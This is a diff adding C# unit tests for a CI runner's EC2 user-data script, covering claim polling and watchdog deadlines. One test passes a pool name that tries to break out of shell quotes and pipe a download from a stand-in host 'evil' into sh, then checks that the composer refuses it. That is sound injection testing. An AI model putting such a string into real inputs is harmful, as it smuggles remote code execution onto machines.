@@ -138,6 +138,38 @@ public sealed class UserDataTests
         Assert.EndsWith("now", guest.Shutdowns[^1], StringComparison.Ordinal);
     }
 
+    /// <summary>A pool VM waits through 202s (not failed attempts), claims the lease's config, and moves its watchdog to the lease's deadline.</summary>
+    [Fact]
+    public async Task A_pool_vm_waits_through_202s_then_adopts_the_leases_deadline_before_its_runner_starts()
+    {
+        if (Bash() is null)
+        {
+            return;
+        }
+
+        using var guest = new Guest([.. Enumerable.Repeat("202", RunnerUserData.ClaimAttempts + 3), "200"], pool: "linux");
+
+        var (exit, output) = await guest.BootAsync();
+
+        Assert.True(exit == 0, output);
+        Assert.Equal(RunnerUserData.ClaimAttempts + 4, guest.Claims.Count);
+        Assert.All(guest.Claims, c => Assert.Contains("\"pool\":\"linux\"", c, StringComparison.Ordinal));
+        Assert.Single(guest.Runs);
+        var cancel = guest.Shutdowns.ToList().IndexOf("-c");
+        Assert.True(cancel > 0, string.Join(" | ", guest.Shutdowns));
+        var rearmed = guest.Shutdowns[cancel + 1];
+        var minutes = int.Parse(rearmed.Split(' ')[1].TrimStart('+'), System.Globalization.CultureInfo.InvariantCulture);
+        Assert.InRange(minutes, (int)(Deadline - DateTimeOffset.UtcNow).TotalMinutes - 2, (int)(Deadline - DateTimeOffset.UtcNow).TotalMinutes);
+    }
+
+    [Fact]
+    public void A_pool_name_that_could_break_out_of_its_quotes_never_reaches_the_script()
+    {
+        var request = Request() with { Claim = new ClaimTicket(new Uri("https://builtiful.example.com/api/runners/claim"), Token, "x'; curl evil | sh; '") };
+        var refused = Assert.Throws<Ec2LaunchException>(() => RunnerUserData.Compose(request, new RunnerBootstrapOptions()));
+        Assert.Contains("refusing to put it in user data", refused.Message, StringComparison.Ordinal);
+    }
+
     private static LaunchRequest Request(Uri? url = null, string token = Token) => new()
     {
         LeaseId = Guid.Parse("0f8fad5b-d9cb-469f-a165-70867728950e"),
@@ -186,8 +218,11 @@ public sealed class UserDataTests
 
         private readonly string _folder = Directory.CreateTempSubdirectory("builtiful-guest-").FullName;
 
-        public Guest(IReadOnlyList<string> answers)
+        private readonly string? _pool;
+
+        public Guest(IReadOnlyList<string> answers, string? pool = null)
         {
+            _pool = pool;
             var bin = Directory.CreateDirectory(Path.Combine(_folder, "bin")).FullName;
             File.WriteAllLines(Path.Combine(_folder, "answers"), answers);
             Stub(bin, "curl", $$"""
@@ -199,7 +234,7 @@ public sealed class UserDataTests
                   *api/runners/claim*)
                     cat >> '{{_folder}}/claims'; echo >> '{{_folder}}/claims'
                     status=$(head -n 1 '{{_folder}}/answers'); sed -i 1d '{{_folder}}/answers'
-                    if [ "$status" = 200 ]; then printf '%s\n200' '{"runnerName":"builtiful-x","encodedJitConfig":"eyJydW5uZXIiOiJidWlsdGlmdWwifQ\u002B\/AB=="}'; else printf '{"title":"no"}\n%s' "$status"; fi ;;
+                    if [ "$status" = 200 ]; then printf '%s\n200' '{"runnerName":"builtiful-x","encodedJitConfig":"eyJydW5uZXIiOiJidWlsdGlmdWwifQ\u002B\/AB==","expiresAt":"2030-01-02T03:04:05\u002B00:00"}'; else printf '{"title":"no"}\n%s' "$status"; fi ;;
                 esac
                 """);
             Stub(bin, "runuser", $$"""
@@ -224,7 +259,9 @@ public sealed class UserDataTests
 
         public Task<(int Exit, string Output)> BootAsync()
         {
-            var script = RunnerUserData.Compose(Request() with { ExpiresAt = DateTimeOffset.UtcNow.AddHours(1) }, new RunnerBootstrapOptions { Directory = _folder });
+            var request = Request() with { ExpiresAt = DateTimeOffset.UtcNow.AddHours(1) };
+            request = _pool is null ? request : request with { Claim = request.Claim with { Pool = _pool } };
+            var script = RunnerUserData.Compose(request, new RunnerBootstrapOptions { Directory = _folder });
             return RunAsync(Bash()!, [Write(script)], new Dictionary<string, string> { ["PATH"] = Bin + ":" + Environment.GetEnvironmentVariable("PATH") });
         }
 
